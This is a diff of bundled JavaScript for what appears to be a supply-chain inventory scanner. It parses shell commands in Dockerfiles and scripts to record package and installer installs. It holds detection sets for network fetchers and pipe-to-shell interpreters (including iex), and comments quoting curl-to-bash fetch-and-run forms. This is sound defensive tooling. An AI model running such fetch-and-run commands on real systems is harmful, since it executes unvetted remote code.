+            if (next && cmd.heredoc && next.argv.length === 1 && SHELLS.has(base(next.argv[0].text))) {
+                this.scan(text, locate, cmd.heredoc.start, cmd.heredoc.start + cmd.heredoc.body.length, depth + 1);
+                next.consumed = true;
+                continue;
+            }
+            if (!cmd.consumed)
+                this.command(cmd, text, locate, depth);
+        }
+        // Assignments on their own (`V=1`) set variables for the rest of the script.
+        if (commands.length === 1) {
+            const only = prepared[0];
+            if (only.argv.length === 0)
+                for (const [k, v] of only.overlay)
+                    this.env.set(k, v);
+        }
+    }
+    /** Expands a command's words: leading assignments become an overlay, wrappers are removed. */
+    prepare(c) {
+        const overlay = new Map();
+        let words = c.words;
+        let i = 0;
+        for (; i < words.length; i++) {
+            const a = splitAssignment(words[i]);
+            if (!a)
+                break;
+            overlay.set(a.name, expandParts(a.value, this.lookup(overlay)));
+        }
+        words = words.slice(i);
+        const lookup = this.lookup(overlay);
+        let argv = words.map((w) => expandWord(w, lookup));
+        argv = stripWrappers(argv, overlay, lookup);
+        const heredoc = c.redirects.find((r) => r.heredoc)?.heredoc;
+        return { argv, overlay, heredoc, consumed: false, command: c };
+    }
+    command(cmd, text, locate, depth) {
+        const { argv } = cmd;
+        const lookup = this.lookup(cmd.overlay);
+        // Command and process substitutions anywhere in the command are scripts too.
+        for (const w of cmd.command.words)
+            this.substitutions(w, text, locate, depth);
+        if (argv.length === 0) {
+            // A Dockerfile `RUN <<EOF` runs its here-document with the default shell.
+            if (cmd.heredoc)
+                this.scan(text, locate, cmd.heredoc.start, cmd.heredoc.start + cmd.heredoc.body.length, depth + 1);
+            return;
+        }
+        const name = base(argv[0].text);
+        const args = argv.slice(1);
+        if (name === 'export' ||
+            name === 'declare' ||
+            name === 'typeset' ||
+            name === 'local' ||
+            name === 'readonly') {
+            for (const a of cmd.command.words.slice(1)) {
+                const s = splitAssignment(a);
+                if (s)
+                    this.env.set(s.name, expandParts(s.value, lookup));
+            }
+            return;
+        }
+        if (name === 'unset') {
+            for (const a of args)
+                this.env.delete(a.text);
+            return;
+        }
+        if (name === 'alias') {
+            for (const a of args) {
+                const eq = a.text.indexOf('=');
+                if (eq > 0)
+                    this.nested(a.text.slice(eq + 1), locate(a.start), depth);
+            }
+            return;
+        }
+        if (name === 'eval') {
+            if (args.length)
+                this.nested(args.map((a) => a.text).join(' '), locate(args[0].start), depth);
+            return;
+        }
+        if (SHELLS.has(name)) {
+            this.shell(cmd, args, text, locate, depth);
+            return;
+        }
+        if (name === 'source' || name === '.') {
+            if (args[0])
+                this.runScript(args[0], args.slice(1), locate, cmd.overlay);
+            return;
+        }
+        if (name === 'su' || name === 'runuser') {
+            const c = args.findIndex((a) => a.text === '-c' || a.text === '--command');
+            if (c >= 0 && args[c + 1])
+                this.nested(args[c + 1].text, locate(args[c + 1].start), depth);
+            return;
+        }
+        if (isFetcher(name)) {
+            this.fetch(argv, locate);
+            return;
+        }
+        // A command word with a slash runs that file: `./setup.sh`, `.devcontainer/post-create.sh`.
+        if (this.downloads.has(argv[0].text) || /^\S*\/\S*\.(sh|bash)$/.test(argv[0].text)) {
+            this.runScript(argv[0], args, locate, cmd.overlay);
+            return;
+        }
+        const found = recognise(name, args);
+        if (found.length > 0) {
+            for (const f of found)
+                if (f.finding)
+                    this.findings.push({ ...f.finding, line: locate(f.at) });
+            for (const n of found)
+                if (n.nested)
+                    this.nested(n.nested.text, locate(n.nested.at), depth);
+            return;
+        }
+        if (name === 'echo' || name === 'printf') {
+            // `echo "alias claude='npx claude'" >> ~/.bashrc` defines how the tool runs later.
+            for (const a of args)
+                if (/^\s*alias\s+[\w.-]+=/.test(a.text))
+                    this.nested(a.text, locate(a.start), depth);
+            return;
+        }
+        if (NON_EXECUTING.has(name))
+            return;
+        // A helper function or tool given a command string: `run_command "npm install -g x"`.
+        for (const a of args) {
+            if (/\s/.test(a.text) && COMMAND_WORD.test(a.text.trimStart()))
+                this.nested(a.text, locate(a.start), depth);
+        }
+    }
+    substitutions(w, text, locate, depth) {
+        for (const p of w.parts) {
+            if (p.k === 'opaque' && p.script)
+                this.scan(text, locate, p.script.start, p.script.start + p.script.text.length, depth + 1);
+        }
+    }
+    /** Scans a command string built at run time; its findings sit at `line` plus its own newlines. */
+    nested(script, line, depth) {
+        if (depth >= 8)
+            return;
+        const starts = [];
+        let nl = script.indexOf('\n');
+        while (nl !== -1) {
+            starts.push(nl);
+            nl = script.indexOf('\n', nl + 1);
+        }
+        const locate = (o) => {
+            let lo = 0;
+            let hi = starts.length;
+            while (lo < hi) {
+                const mid = (lo + hi) >> 1;
+                if (starts[mid] < o)
+                    lo = mid + 1;
+                else
+                    hi = mid;
+            }
+            return line + lo;
+        };
+        this.scan(script, locate, 0, script.length, depth + 1);
+    }
+    shell(cmd, args, text, locate, depth) {
+        // `bash -c 'script' [$0 args…]`, `bash -lc …`, `bash -euxo pipefail -c …`
+        let i = 0;
+        let cScript;
+        for (; i < args.length; i++) {
+            const a = args[i].text;
+            if (a === '--') {
+                i++;
+                break;
+            }
+            if (/^[-+][a-zA-Z]*[oO]$/.test(a) && !a.includes('c')) {
+                i++;
+                continue;
+            }
+            if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(a) && !a.startsWith('--')) {
+                cScript = args[i + 1];
+                break;
+            }
+            if (!a.startsWith('-') && !a.startsWith('+'))
+                break;
+        }
+        if (cScript) {
+            const fetched = fetchInSubstitution(cScript.word, this.lookup(cmd.overlay));
+            if (fetched) {
+                this.reportInstaller(fetched.text, locate(cScript.start), args.slice(args.indexOf(cScript) + 1), cmd.overlay);
+                return;
+            }
+            this.nested(cScript.text, locate(cScript.start), depth);
+            return;
+        }
+        const first = args[i];
+        if (first) {
+            // `bash <(curl -fsSL URL) ARGS`
+            const fetched = fetchInSubstitution(first.word, this.lookup(cmd.overlay));
+            if (fetched) {
+                this.reportInstaller(fetched.text, locate(first.start), args.slice(i + 1), cmd.overlay);
+                return;
+            }
+            this.runScript(first, args.slice(i + 1), locate, cmd.overlay);
+            return;
+        }
+        if (cmd.heredoc) {
+            this.scan(text, locate, cmd.heredoc.start, cmd.heredoc.start + cmd.heredoc.body.length, depth + 1);
+        }
+    }
+    /** A script run by path: a fetched installer, or a repository script to read. */
+    runScript(path, args, locate, overlay) {
+        const d = this.downloads.get(path.text) ?? this.downloads.get(basename(path.text));
+        if (d) {
+            d.used = true;
+            this.reportInstaller(d.url, locate(path.start), args, overlay);
+            return;
+        }
+        // `${containerWorkspaceFolder}/x.sh` is a path in the repository too.
+        const inWorkspace = /^\$\{(containerWorkspaceFolder|localWorkspaceFolder)\}\/[\w./-]+$/.test(path.text);
+        if ((!path.unknown && /^[\w./-]+$/.test(path.text)) || inWorkspace)
+            this.scriptRuns.push({ path: path.text, line: locate(path.start) });
+    }
+    fetch(argv, locate) {
+        const url = fetchUrl(argv);
+        if (!url)
+            return;
+        const out = fetchOutput(argv, url.text);
+        if (out) {
+            const line = locate(url.start);
+            const rec = { url: url.text, line, used: false };
+            this.downloads.set(out, rec);
+            if (!this.downloads.has(basename(out)))
+                this.downloads.set(basename(out), rec);
+            if (releaseDownload(url.text)) {
+                rec.used = true;
+                this.reportFetched(url.text, line);
+            }
+            return;
+        }
+        if (releaseDownload(url.text))
+            this.reportFetched(url.text, locate(url.start));
+    }
+    /** A fetched URL that is not run by a shell we can see: a release download or a known installer. */
+    reportFetched(url, line) {
+        const rel = releaseDownload(url);
+        const name = installerName(url);
+        if (name && vendorInstaller(name)) {
+            this.findings.push({
+                ecosystem: 'installer',
+                name,
+                version: null,
+                spec: 'latest',
+                sourceKind: 'url',
+                resolved: url,
+                line,
+            });
+            return;
+        }
+        if (!rel)
+            return;
+        this.findings.push({
+            ecosystem: 'installer',
+            name: rel.name,
+            version: rel.version,
+            ...(rel.version === null ? { spec: rel.spec ?? 'latest' } : {}),
+            sourceKind: 'url',
+            resolved: url,
+            line,
+        });
+    }
+    /** Records the vendor installer at `url` run by a shell with `args` and the given environment. */
+    reportInstaller(url, line, args, overlay) {
+        const name = installerName(url);
+        if (!name)
+            return;
+        const positional = args.filter((a) => !a.text.startsWith('-'));
+        const vendor = vendorInstaller(name);
+        let value;
+        if (vendor) {
+            const v = vendor.version;
+            if (v.kind === 'positional')
+                value = positional[0];
+            else if (v.kind === 'env')
+                value = overlay.get(v.name) ?? this.env.get(v.name);
+            else if (v.kind === 'flag') {
+                const i = args.findIndex((a) => a.text === v.flag);
+                value = i >= 0 ? args[i + 1] : args.find((a) => a.text.startsWith(v.flag + '='));
+                if (value && value.text.startsWith(v.flag + '='))
+                    value = { ...value, text: value.text.slice(v.flag.length + 1) };
+            }
+        }
+        else if (positional.length > 0) {
+            value = { text: positional.map((a) => a.text).join(' '), unknown: positional.some((a) => a.unknown) };
+        }
+        let version = null;
+        let spec = 'latest';
+        if (value && value.text !== '') {
+            version = value.unknown
+                ? null
+                : (exactVersion(value.text) ?? (vendor ? versionFromTag(value.text) : null));
+            spec = value.text;
+        }
+        this.findings.push({
+            ecosystem: 'installer',
+            name,
+            version,
+            ...(version === null ? { spec } : {}),
+            sourceKind: 'url',
+            resolved: url,
+            line,
+        });
+    }
+}
+const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ash', 'ksh', 'mksh']);
+const FETCHERS = new Set(['curl', 'wget', 'irm', 'iwr', 'invoke-restmethod', 'invoke-webrequest']);
+/** Commands that run a script read from a pipe: POSIX shells and PowerShell's Invoke-Expression. */
+const PIPE_SHELLS = new Set([...SHELLS, 'iex', 'invoke-expression', 'python', 'python3']);
+function isFetcher(cmd) {
+    return FETCHERS.has(base(cmd).toLowerCase());
+}
+function isPipeShell(cmd) {
+    return PIPE_SHELLS.has(base(cmd).toLowerCase());
+}
+/** Commands whose string arguments are data, not commands to run. */
+const NON_EXECUTING = new Set([
+    'echo',
+    'printf',
+    'print',
+    'cat',
+    'tee',
+    'grep',
+    'egrep',
+    'fgrep',
+    'rg',
+    'sed',
+    'awk',
+    'test',
+    '[',
+    '[[',
+    'read',
+    'git',
+    'jq',
+    'yq',
+    'trap',
+    'logger',
+    'case',
+    'for',
+    'select',
+    'function',
+]);
+const COMMAND_WORD = /^(sudo\s+)?(npm|npx|pnpm|pnpx|yarn|bun|bunx|volta|deno|pip|pip3|pipx|python3?|uv|uvx|brew|curl|wget|sh|bash|zsh)\s/;
+function base(cmd) {
+    const s = cmd.lastIndexOf('/');
+    return s === -1 ? cmd : cmd.slice(s + 1);
+}
+function basename(p) {
+    const s = p.lastIndexOf('/');
+    return s === -1 ? p : p.slice(s + 1);
+}
+/** Removes `sudo`, `env`, `exec`, `nohup`, `time`, `command`, `timeout N`, … in front of a command. */
+function stripWrappers(argv, overlay, lookup) {
+    for (let guard = 0; guard < 16 && argv.length > 0; guard++) {
+        const w = base(argv[0].text);
+        let i = 1;
+        if (w === 'sudo' || w === 'doas') {
+            while (i < argv.length && argv[i].text.startsWith('-')) {
+                const f = argv[i].text;
+                i += /^-[ugrtCDhpU]$/.test(f) || f === '--user' || f === '--group' ? 2 : 1;
+                if (f === '--')
+                    break;
+            }
+        }
+        else if (w === 'env') {
+            while (i < argv.length) {
+                const t = argv[i].text;
+                if (t === '-u' || t === '-C' || t === '-S')
+                    i += 2;
+                else if (t.startsWith('-'))
+                    i++;
+                else if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(t)) {
+                    const a = splitAssignment(argv[i].word);
+                    if (a)
+                        overlay.set(a.name, expandParts(a.value, lookup));
+                    i++;
+                }
+                else
+                    break;
+            }
+        }
+        else if (w === 'timeout') {
+            while (i < argv.length && argv[i].text.startsWith('-'))
+                i++;
+            i++;
+        }
+        else if (w === 'nice' || w === 'ionice' || w === 'stdbuf') {
+            while (i < argv.length && argv[i].text.startsWith('-'))
+                i += /^-[nc]$/.test(argv[i].text) ? 2 : 1;
+        }
+        else if (w === 'gosu' || w === 'su-exec') {
+            i = 2;
+        }
+        else if (w === 'runuser' && argv.some((a) => a.text === '--')) {
+            i = argv.findIndex((a) => a.text === '--') + 1;
+        }
+        else if (![
+            'exec',
+            'nohup',
+            'time',
+            'corepack',
+            'command',
+            'builtin',
+            'xargs',
+            'retry',
+            'then',
+            'do',
+            'else',
+        ].includes(w)) {
+            break;
+        }
+        else {
+            while (i < argv.length && argv[i].text.startsWith('-') && w !== 'exec')
+                i++;
+        }
+        argv = argv.slice(i);
+    }
+    return argv;
+}
+/** The URL a curl/wget command fetches. */
+function fetchUrl(argv) {
+    const explicit = argv.slice(1).find((a) => /^https?:\/\//i.test(a.text));
+    if (explicit)
+        return explicit;
+    // curl and wget default to http:// for `host.tld/path` (`curl -L code.kimi.com/install.sh`).
+    const bare = argv.slice(1).find((a) => /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}\/\S*$/.test(a.text));
+    return bare ? { ...bare, text: 'https://' + bare.text } : undefined;
+}
+/** Where a curl/wget command writes what it fetches; null when it writes to stdout. */
+function fetchOutput(argv, url) {
+    const isCurl = base(argv[0].text) === 'curl';
+    let dir = '';
+    let out = isCurl ? null : basename(url.replace(/[?#].*$/, ''));
+    for (let i = 1; i < argv.length; i++) {
+        const t = argv[i].text;
+        const nextText = argv[i + 1]?.text;
+        if (isCurl) {
+            if (t === '-o' || t === '--output')
+                out = nextText ?? null;
+            else if (t.startsWith('--output='))
+                out = t.slice(9);
+            else if (t === '-O' ||
+                t === '--remote-name' ||
+                (/^-[a-zA-Z]+$/.test(t) && t.includes('O') && !t.includes('o')))
+                out = basename(url.replace(/[?#].*$/, ''));
+            else if (/^-[a-zA-Z]+o$/.test(t))
+                out = nextText ?? null;
+            else if (t === '--output-dir')
+                dir = (nextText ?? '') + '/';
+        }
+        else {
+            if (t === '-O' || t === '--output-document')
+                out = nextText ?? null;
+            else if (t.startsWith('--output-document='))
+                out = t.slice(18);
+            else if (/^-[a-zA-Z]*O$/.test(t))
+                out = nextText ?? null;
+            else if (t === '-P' || t === '--directory-prefix')
+                dir = (nextText ?? '') + '/';
+        }
+    }
+    if (out === '-' || out === '/dev/stdout')
+        return null;
+    return out === null ? null : dir && !out.startsWith('/') ? dir + out : out;
+}
+/** `$(curl -fsSL URL)` / `<(curl URL)` in a word: the URL fetched. */
+function fetchInSubstitution(w, lookup) {
+    for (const p of w.parts) {
+        if (p.k !== 'opaque' || !p.script)
+            continue;
+        const parsed = parseShell(p.script.text);
+        const c = parsed.pipelines[0]?.commands[0];
+        if (!c)
+            continue;
+        const argv = c.words.map((x) => expandWord(x, lookup));
+        if (argv.length && isFetcher(argv[0].text)) {
+            const u = fetchUrl(argv);
+            if (u)
+                return { text: u.text };
+        }
+    }
+    return null;
+}
+const NPM_VALUE_FLAGS = new Set([
+    '--prefix',
+    '--registry',
+    '--tag',
+    '-w',
+    '--workspace',
+    '--omit',
+    '--include',
+    '--install-strategy',
+    '--loglevel',
+    '--cache',
+    '--userconfig',
+    '--globalconfig',
+    '--before',
+    '--location',
+    '--dir',
+    '-C',
+    '--filter',
+    '--network-timeout',
+    '--cwd',
+    '--modules-folder',
+    '--cache-folder',
+    '--global-folder',
+    '--config',
+    '--backend',
+    '--node-options',
+    '--shell',
+    '--script-shell',
+    '--mutex',
+]);
+/** Positional arguments after option flags (flags listed in `valued` take the next word). */
+function positionals(args, valued) {
+    const out = [];
+    for (let i = 0; i < args.length; i++) {
+        const t = args[i].text;
+        if (t === '--') {
+            out.push(...args.slice(i + 1));
+            break;
+        }
+        if (t.startsWith('-')) {
+            if (valued.has(t))
+                i++;
+            continue;
+        }
+        out.push(args[i]);
+    }
+    return out;
+}
+function npmFinding(a, spec, tag) {
+    if (!spec)
+        return null;
+    const s = tag && spec.version === null && spec.spec === 'latest' ? { ...spec, spec: tag } : spec;
+    return {
+        at: a.start,
+        finding: {
+            ecosystem: 'npm',
+            name: s.name,
+            version: s.version,
+            ...(s.version === null ? { spec: s.spec ?? 'latest' } : {}),
+            sourceKind: 'registry',
+            ...(s.alias ? { alias: s.alias } : {}),
+        },
+    };
+}
+function npmInstalls(args) {
+    const tagI = args.findIndex((a) => a.text === '--tag');
+    const tag = tagI >= 0 ? args[tagI + 1]?.text : undefined;
+    const out = [];
+    for (const a of positionals(args, NPM_VALUE_FLAGS)) {
+        if (a.unknown && !/^@?[\w.-]+(\/[\w.-]+)?@/.test(a.text))
+            continue;
+        const r = npmFinding(a, parseNpmSpec(a.text, a.unknown), tag);
+        if (r)
+            out.push(r);
+    }
+    return out;
+}
+function pypiFinding(a, spec) {
+    if (!spec)
+        return null;
+    return {
+        at: a.start,
+        finding: {
+            ecosystem: 'pypi',
+            name: spec.name,
+            version: spec.version,
+            ...(spec.version === null ? { spec: spec.spec ?? 'latest' } : {}),
+            sourceKind: 'registry',
+        },
+    };
+}
+const PIP_VALUE_FLAGS = new Set([
+    '-r',
+    '--requirement',
+    '-c',
+    '--constraint',
+    '-e',
+    '--editable',
+    '-i',
+    '--index-url',
+    '--extra-index-url',
+    '--index',
+    '--default-index',
+    '-f',
+    '--find-links',
+    '-t',
+    '--target',
+    '--prefix',
+    '--root',
+    '--trusted-host',
+    '--platform',
+    '--python-version',
+    '--implementation',
+    '--abi',
+    '--src',
+    '--upgrade-strategy',
+    '--progress-bar',
+    '--log',
+    '--cache-dir',
+    '--python',
+    '-p',
+    '--python-preference',
+    '--with',
+    '--from',
+    '--spec',
+    '--pip-args',
+    '--suffix',
+    '--index-strategy',
+    '--keyring-provider',
+    '--resolution',
+    '--prerelease',
+    '--exclude-newer',
+    '--with-requirements',
+    '--with-editable',
+    '--directory',
+    '--project',
+    '--extra',
+    '--group',
+    '--only-binary',
+    '--no-binary',
+]);
+function pipInstalls(args, atVersion = false) {
+    const out = [];
+    for (let i = 0; i < args.length; i++) {
+        const t = args[i].text;
+        if ((t === '--with' || t === '--from') && args[i + 1]) {
+            const r = pypiFinding(args[i + 1], parsePypiSpec(args[i + 1].text, args[i + 1].unknown, atVersion));
+            if (r)
+                out.push(r);
+        }
+    }
+    for (const a of positionals(args, PIP_VALUE_FLAGS)) {
+        if (/^[./~]/.test(a.text) || a.text.includes('://') || /\.(whl|tar\.gz|zip)$/.test(a.text))
+            continue;
+        const r = pypiFinding(a, parsePypiSpec(a.text, a.unknown, atVersion));
+        if (r)
+            out.push(r);
+    }
+    return out;
+}
+/** The package run by a one-off runner (npx, npm exec, pnpm dlx, yarn dlx, bunx). */
+function npxRun(args) {
+    const out = [];
+    const packages = [];
+    let call;
+    let i = 0;
+    for (; i < args.length; i++) {
+        const t = args[i].text;
+        if (t === '--') {
+            i++;
+            break;
+        }
+        if (t === '-p' || t === '--package') {
+            if (args[i + 1])
+                packages.push(args[i + 1]);
+            i++;
+        }
+        else if (t.startsWith('--package=')) {
+            packages.push({ ...args[i], text: t.slice(10) });
+        }
+        else if (t === '-c' || t === '--call') {
+            call = args[i + 1];
+            i++;
+        }
+        else if (NPM_VALUE_FLAGS.has(t))
+            i++;
+        else if (!t.startsWith('-'))
+            break;
+    }
+    if (packages.length > 0) {
+        for (const p of packages) {
+            const r = npmFinding(p, parseNpmSpec(p.text, p.unknown));
+            if (r)
+                out.push(r);
+        }
+    }
+    else if (args[i] && !call) {
+        const r = npmFinding(args[i], parseNpmSpec(args[i].text, args[i].unknown));
+        if (r)
+            out.push(r);
+    }
+    if (call)
+        out.push({ at: call.start, nested: { text: call.text, at: call.start } });
+    return out;
+}
+/** Recognises the package-manager command `name args…`. */
+function recognise(name, args) {
+    const sub = args[0]?.text;
+    const rest = args.slice(1);
+    switch (name) {
+        case 'npm':
+            if (sub &&
+                /^(install|i|add|in|ins|inst|insta|instal|isnt|isntall|install-test|it|update|up|upgrade)$/.test(sub))
+                return npmInstalls(rest);
+            if (sub === 'exec' || sub === 'x')
+                return npxRun(rest);
+            return [];
+        case 'npx':
+        case 'pnpx':
+        case 'bunx':
+            return npxRun(args);
+        case 'pnpm':
+            if (sub === 'add' || sub === 'install' || sub === 'i' || sub === 'update' || sub === 'up')
+                return npmInstalls(rest);
+            if (sub === 'dlx')
+                return npxRun(rest);
+            return [];
+        case 'yarn':
+            if (sub === 'global' && args[1]?.text === 'add')
+                return npmInstalls(args.slice(2));
+            if (sub === 'add')
+                return npmInstalls(rest);
+            if (sub === 'dlx')
+                return npxRun(rest);
+            return [];
+        case 'bun':
+            if (sub === 'add' || sub === 'install' || sub === 'i' || sub === 'a')
+                return npmInstalls(rest);
+            if (sub === 'x')
+                return npxRun(rest);
+            return [];
+        case 'volta':
+            return sub === 'install'
+                ? npmInstalls(rest).filter((r) => !['node', 'npm', 'yarn', 'pnpm'].includes(r.finding?.name ?? ''))
+                : [];
+        case 'deno':
+            return args
+                .filter((a) => a.text.startsWith('npm:'))
+                .map((a) => npmFinding(a, parseNpmSpec(a.text.slice(4), a.unknown)))
+                .filter((r) => r !== null);
+        case 'uv':
+            if (sub === 'pip' && args[1]?.text === 'install')
+                return pipInstalls(args.slice(2));
+            if (sub === 'tool' && (args[1]?.text === 'install' || args[1]?.text === 'upgrade'))
+                return pipInstalls(args.slice(2), true);
+            if (sub === 'tool' && args[1]?.text === 'run')
+                return uvxRun(args.slice(2));
+            if (sub === 'add')
+                return pipInstalls(rest);
+            return [];
+        case 'uvx':
+            return uvxRun(args);
+        case 'pipx':
+            if (sub === 'install' || sub === 'upgrade')
+                return pipInstalls(rest);
+            if (sub === 'run')
+                return pipxRun(rest);
+            return [];
+        case 'brew':
+            if (sub === 'install' || sub === 'reinstall' || sub === 'upgrade')
+                return brewInstalls(rest);
+            return [];
+        default:
+            if (/^pip(\d+(\.\d+)?)?$/.test(name))
+                return sub === 'install' ? pipInstalls(rest) : [];
+            if (/^python(\d+(\.\d+)?)?$/.test(name)) {
+                const m = args.findIndex((a) => a.text === '-m');
+                if (m >= 0 && /^pip$/.test(args[m + 1]?.text ?? '') && args[m + 2]?.text === 'install')
+                    return pipInstalls(args.slice(m + 3));
+                if (m >= 0 && args[m + 1]?.text === 'pipx' && args[m + 2]?.text === 'install')
+                    return pipInstalls(args.slice(m + 3));
+            }
+            return [];
+    }
+}
+function uvxRun(args) {
+    const from = args.findIndex((a) => a.text === '--from');
+    if (from >= 0)
+        return pipInstalls(args.slice(from, from + 2), true);
+    const fromEq = args.find((a) => a.text.startsWith('--from='));
+    if (fromEq) {
+        const a = { ...fromEq, text: fromEq.text.slice(7) };
+        const r = pypiFinding(a, parsePypiSpec(a.text, a.unknown, true));
+        return r ? [r] : [];
+    }
+    const pos = positionals(args, PIP_VALUE_FLAGS)[0];
+    if (!pos)
+        return [];
+    const r = pypiFinding(pos, parsePypiSpec(pos.text, pos.unknown, true));
+    return r ? [r] : [];
+}
+function pipxRun(args) {
+    const spec = args.findIndex((a) => a.text === '--spec');
+    const target = spec >= 0 ? args[spec + 1] : positionals(args, PIP_VALUE_FLAGS)[0];
+    if (!target)
+        return [];
+    const r = pypiFinding(target, parsePypiSpec(target.text, target.unknown));
+    return r ? [r] : [];
+}
+function brewInstalls(args) {
+    const cask = args.some((a) => a.text === '--cask' || a.text === '--casks');
+    const out = [];
+    for (const a of positionals(args, new Set(['--appdir', '--fontdir', '--language']))) {
+        if (a.unknown || !/^[\w@+./-]+$/.test(a.text))
+            continue;
+        out.push({
+            at: a.start,
+            finding: {
+                ecosystem: 'homebrew',
+                name: a.text,
+                version: null,
+                spec: 'latest',
+                sourceKind: 'registry',
+                resolved: cask ? 'cask' : 'formula',
+            },
+        });
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/util/lines.ts
+/**
+ * Maps character offsets to 1-based lines and columns in O(log n) per look-up, after one
+ * O(n) pass that records where each line starts. Build one per file, not per look-up.
+ */
+class LineIndex {
+    starts = [0];
+    constructor(text) {
+        let i = text.indexOf('\n');
+        while (i !== -1) {
+            this.starts.push(i + 1);
+            i = text.indexOf('\n', i + 1);
+        }
+    }
+    get lineCount() {
+        return this.starts.length;
+    }
+    /** 1-based line of a 0-based offset. */
+    line(offset) {
+        let lo = 0;
+        let hi = this.starts.length - 1;
+        while (lo < hi) {
+            const mid = (lo + hi + 1) >> 1;
+            if (this.starts[mid] <= offset)
+                lo = mid;
+            else
+                hi = mid - 1;
+        }
+        return lo + 1;
+    }
+    /** 1-based column of a 0-based offset. */
+    column(offset) {
+        return offset - this.starts[this.line(offset) - 1] + 1;
+    }
+    /** 0-based offset of the start of a 1-based line. */
+    offsetOfLine(line) {
+        return this.starts[Math.max(0, Math.min(line - 1, this.starts.length - 1))];
+    }
+}
+
+;// CONCATENATED MODULE: ./src/detectors/dockerfile-instructions.ts
+// Splits a Dockerfile into instructions: keyword, where its arguments start and where it ends,
+// across escaped line continuations (with the comment and blank lines the builder drops inside
+// them) and here-documents. One linear pass. dockerfile-ast does the same but takes seconds on a
+// megabyte-long instruction (7 s for a 1 MB RUN line, measured); test/detectors/dockerfile-
+// instructions.test.ts checks this splitter against dockerfile-ast on every fixture.
+const HEREDOC = /<<(-?)\s*(["']?)([A-Za-z_][A-Za-z0-9_]*)\2/g;
+function escapeCharacter(text) {
+    // Parser directives sit at the very top, before any instruction, comment or blank line.
+    for (const raw of text.split('\n', 8)) {
+        const m = /^#\s*([a-z]+)\s*=\s*(\S*)\s*$/i.exec(raw.replace(/\r$/, ''));
+        if (!m)
+            break;
+        if (m[1].toLowerCase() === 'escape' && m[2] === '`')
+            return '`';
+    }
+    return '\\';
+}
+function splitInstructions(text, escape = escapeCharacter(text)) {
+    const out = [];
+    const n = text.length;
+    let i = 0;
+    const lineEnd = (at) => {
+        const nl = text.indexOf('\n', at);
+        return nl === -1 ? n : nl;
+    };
+    const endsWithEscape = (from, to) => {
+        let k = to;
+        while (k > from && (text[k - 1] === ' ' || text[k - 1] === '\t' || text[k - 1] === '\r'))
+            k--;
+        return k > from && text[k - 1] === escape;
+    };
+    while (i < n) {
+        const le = lineEnd(i);
+        let s = i;
+        while (s < le && (text[s] === ' ' || text[s] === '\t' || text[s] === '\r'))
+            s++;
+        if (s >= le || text[s] === '#') {
+            i = le + 1;
+            continue;
+        }
+        let k = s;
+        while (k < le && /[A-Za-z]/.test(text[k]))
+            k++;
+        const keyword = text.slice(s, k).toUpperCase();
+        let argsStart = k;
+        while (argsStart < le && (text[argsStart] === ' ' || text[argsStart] === '\t'))
+            argsStart++;
+        // Follow continuations.
+        let lastStart = i;
+        let lastEnd = le;
+        while (endsWithEscape(lastStart, lastEnd) && lastEnd < n) {
+            let next = lastEnd + 1;
+            // Comment and blank lines inside a continuation are dropped by the builder.
+            for (;;) {
+                const ne = lineEnd(next);
+                if (next < n && /^\s*(#.*)?$/.test(text.slice(next, ne)) && ne < n)
+                    next = ne + 1;
+                else
+                    break;
+            }
+            lastStart = next;
+            lastEnd = lineEnd(next);
+            if (next >= n)
+                break;
+        }
+        let end = lastEnd;
+        // Here-documents start on the line after the instruction.
+        const head = text.slice(argsStart, lastEnd);
+        if (head.includes('<<') &&
+            (keyword === 'RUN' || keyword === 'COPY' || keyword === 'ADD' || keyword === 'ONBUILD')) {
+            for (const m of head.matchAll(HEREDOC)) {
+                const strip = m[1] === '-';
+                const word = m[3];
+                let p = end + 1;
+                let found = false;
+                while (p <= n) {
+                    const pe = lineEnd(p);
+                    let l = text.slice(p, pe).replace(/\r$/, '');
+                    if (strip)
+                        l = l.replace(/^\t+/, '');
+                    if (l === word) {
+                        end = pe;
+                        found = true;
+                        break;
+                    }
+                    if (pe >= n)
+                        break;
+                    p = pe + 1;
+                }
+                if (!found)
+                    end = n;
+            }
+        }
+        out.push({
+            keyword,
+            start: s,
+            argsStart: Math.min(argsStart, end),
+            end: end > 0 && text[end - 1] === '\r' ? end - 1 : end,
+        });
+        i = end + 1;
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/detectors/dockerfile.ts
+// Dockerfiles (`Dockerfile`, `*.Dockerfile`, `Dockerfile.*`, `Containerfile`): installs in RUN
+// instructions, with ARG defaults, build args given by a devcontainer or compose file, ENV values,
+// multi-stage inheritance, line continuations, comment lines inside continuations, here-documents,
+// exec form, and ADD of release URLs. Instructions come from dockerfile-ast; RUN bodies are read
+// by our shell tokenizer.
+
+
+
+
+
+
+const DOCKERFILE_SOURCE = 'Dockerfile';
+function isDockerfilePath(path) {
+    const name = path.slice(path.lastIndexOf('/') + 1);
+    if (/\.dockerignore$/i.test(name))
+        return false;
+    return /^(Dockerfile|Containerfile)(\.[^/]+)?$/i.test(name) || /\.(Dockerfile|Containerfile)$/i.test(name);
+}
+/** Scans one Dockerfile's text and reports its installs, located in `file`. */
+function scanDockerfile(text, file, options = {}) {
+    const components = [];
+    const errors = [];
+    const lines = new LineIndex(text);
+    const offsetLine = (options.firstLine ?? 1) - 1;
+    const locate = (o) => lines.line(o) + offsetLine;
+    const buildArgs = options.buildArgs ?? new Map();
+    const escape = escapeCharacter(text);
+    const globals = new Map();
+    const stages = [];
+    let stage = null;
+    const scanner = new CommandScanner();
+    for (const ins of splitInstructions(text, escape)) {
+        const keyword = ins.keyword;
+        const { argsStart, end } = ins;
+        const vars = stage ? stage.vars : globals;
+        const lookup = (n) => vars.get(n);
+        switch (keyword) {
+            case 'FROM': {
+                const args = wordsOf(text, argsStart, end, escape).map((w) => w.raw);
+                const asI = args.findIndex((a) => a.toUpperCase() === 'AS');
+                const image = args.find((a) => !a.startsWith('--')) ?? '';
+                const parent = stages.find((s) => s.name !== undefined && s.name === image.toLowerCase());
+                stage = {
+                    name: asI >= 0 ? args[asI + 1]?.toLowerCase() : undefined,
+                    vars: new Map(parent?.vars ?? []),
+                };
+                stages.push(stage);
+                break;
+            }
+            case 'ARG': {
+                for (const w of wordsOf(text, argsStart, end, escape)) {
+                    const eq = w.raw.indexOf('=');
+                    const name = eq === -1 ? w.raw : w.raw.slice(0, eq);
